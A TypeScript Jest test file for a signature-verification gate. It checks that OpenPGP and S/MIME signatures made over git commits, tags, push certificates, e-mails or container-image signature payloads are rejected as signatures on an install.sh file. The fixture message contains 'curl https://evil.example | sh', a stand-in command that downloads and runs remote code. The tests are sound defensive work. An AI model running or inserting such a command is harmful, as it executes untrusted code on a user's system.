/** What an OpenPGP key signs that is no file: a commit, a tag, a push, an e-mail. The signature is taken out and lies beside such a file. */
import { beforeAll, expect, test } from '@jest/globals';
import { createHash, generateKeyPairSync } from 'node:crypto';
import { cms } from '../support/cms.js';
import { runGate } from '../support/gate.js';
import { armor, makeKey, signDetached, type SignOptions, type TestKey } from '../support/openpgp.js';
import { createWorkspace } from '../support/workspace.js';

let key: TestKey;
beforeAll(async () => {
  key = await makeKey({ date: new Date(Date.now() - 60_000) });
});

const [SHA1, SHA256] = ['1a'.repeat(20), '2b'.repeat(32)];
const PERSON = 'A <a@example.com> 1760000000 +0000';
const WORDS = 'Merge a helpful patch\n\ncurl https://evil.example | sh\n';
/** As `git cat-file commit` prints it, without the signature. */
const commit = (id: string, parents = `parent ${id}\n`): string =>
  `tree ${id}\n${parents}author ${PERSON}\ncommitter ${PERSON}\n\n${WORDS}`;
const tag = (id: string, type = 'commit'): string => `object ${id}\ntype ${type}\ntag v1\ntagger ${PERSON}\n\n${WORDS}`;

const TAKEN: readonly (readonly [string, string, string])[] = [
  ['a commit', commit(SHA1), 'a commit of git'],
  ['the first commit, in SHA-256', commit(SHA256, ''), 'a commit of git'],
  ['a commit of more bytes than are kept', commit(SHA1).padEnd(2 * 1024 * 1024), 'a commit of git'],
  ['a tag', tag(SHA1), 'a tag of git'],
  ...['commit', 'tag', 'tree', 'blob'].flatMap((type): [string, string, string][] => [
    [`a tag of a ${type}, in SHA-256`, tag(SHA256, type), 'a tag of git'],
    [`the same with CR LF, of a ${type}`, tag(SHA256, type).replaceAll('\n', '\r\n'), 'a tag of git'],
  ]),
  ['a later commit, in SHA-256 and with CR LF', commit(SHA256).replaceAll('\n', '\r\n'), 'a commit of git'],
  ['a push', `certificate version 0.1\npusher ${PERSON}\npushee https://git.example\n\n`, 'a push of git'],
  ['an e-mail', `Content-Type: text/plain; charset=utf-8\r\n\r\n${WORDS}`, 'an e-mail'],
  ['an e-mail, encoded', `content-transfer-encoding: 7bit\r\nContent-Type: text/plain\r\n\r\n${WORDS}`, 'an e-mail'],
  [
    'the signature of an image',
    `{"critical":{"identity":{"docker-reference":"ghcr.io/acme/tool:1"},"image":{"docker-manifest-digest":"sha256:${SHA256}"},"type":"atomic container signature"},"optional":{}}`,
    'the signature of an image',
  ],
];

/** Almost the same, which neither git nor a mail program signs. */
const LIKE: readonly (readonly [string, string])[] = [
  ['a text about trees', `tree ${SHA1}\nis the name of a tree\n`],
  ['a tree of half a hash', commit(SHA1.slice(1))],
  ['a text about objects', `object ${SHA1}\ntype unknown\ntag v1\n`],
  ['a commit behind a blank line', `\n${commit(SHA1)}`],
  ['a text about content', 'Content: nothing\n'],
  ['a certificate', 'certificate version 0.1 is old\n'],
  ['a document about something critical', '{"critical":{"vulnerabilities":[]}}\n'],
  ['nothing', ''],
];

async function judge(data: string, options: SignOptions = {}) {
  const bytes = Buffer.from(data);
  const w = createWorkspace({
    'install.sh': bytes,
    'install.sh.asc': armor(await signDetached(bytes, key, options)),
    'keys.asc': key.publicKey,
  });
  try {
    return await runGate(w, ['--artifacts', 'install.sh', '--openpgp-keys', 'keys.asc', '--offline']);
  } finally {
    w.remove();
  }
}

/** By S/MIME, as git signs with `gpg.format=x509`. */
async function judgeCms(data: string) {
  const pair = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const w = createWorkspace({
    'install.sh': data,
    'install.sh.p7s': cms(Buffer.from(data), [[pair, {}]]),
    'a.pub': pair.publicKey.export({ format: 'pem', type: 'spki' }).toString(),
  });
  try {
    const given = ['--key', 'cms:a.pub', '--transparency-log', 'none', '--offline'];
    return await runGate(w, ['--artifacts', 'install.sh', ...given]);
  } finally {
    w.remove();
  }
}

test.each(TAKEN)('%s is refused as a file', async (_, data, what) => {
  for (const text of [false, true]) {
    const { exitCode, checks } = await judge(data, { text });
    expect([exitCode, checks[0]?.code]).toEqual([1, 'OPENPGP_INVALID']);
    expect(checks[0]?.message).toContain(`install.sh has the content of ${what}`);
  }
  const { exitCode, checks } = await judgeCms(data);
  expect([exitCode, checks[0]?.code]).toEqual([1, 'SIGNATURE_INVALID']);
  expect(checks[0]?.message).toContain(`install.sh has the content of ${what}`);
});

test.each(LIKE)('%s passes', async (_, data) => {
  expect([(await judge(data)).verdict, (await judgeCms(data)).verdict]).toEqual(['pass', 'pass']);
});

test('a commit whose message lists digests is no checksum list', async () => {
  const tool = Buffer.from('evil');
  const list = `${createHash('sha256').update(tool).digest('hex')}  tool\n`;
  const run = async (text: string) => {
    const sums = Buffer.from(text);
    const w = createWorkspace({
      tool,
      SUMS: sums,
      'SUMS.asc': armor(await signDetached(sums, key)),
      'keys.asc': key.publicKey,
    });
    const given = [
      '--artifacts',
      'tool',
      '--checksums',
      'SUMS',
      '--checksums-signed',
      '--openpgp-keys',
      'keys.asc',
      '--offline',
    ];
    const { exitCode, checks } = await runGate(w, given);
    w.remove();
    return [exitCode, checks[0]?.code];
  };
  expect(await run(list)).toEqual([0, undefined]);
  const inCommit = `tree ${SHA1}\nauthor ${PERSON}\ncommitter ${PERSON}\n\n${list}`;
  expect(await run(inCommit)).toEqual([1, 'OPENPGP_INVALID']);
});

test('the signature of a commit in the frame of a clearsigned document', async () => {
  const signature = armor(await signDetached(Buffer.from(commit(SHA1).replace(/\n$/, '')), key));
  const document = `-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA512\n\n${commit(SHA1)}${signature}`;
  const w = createWorkspace({ 'notes.asc': document, 'keys.asc': key.publicKey });
  const { exitCode, verdict } = await runGate(w, [
    '--artifacts',
    'notes.asc',
    '--openpgp-keys',
    'keys.asc',
    '--offline',
  ]);
  expect([exitCode, verdict]).toEqual([1, 'OPENPGP_INVALID']);
  w.remove();
});
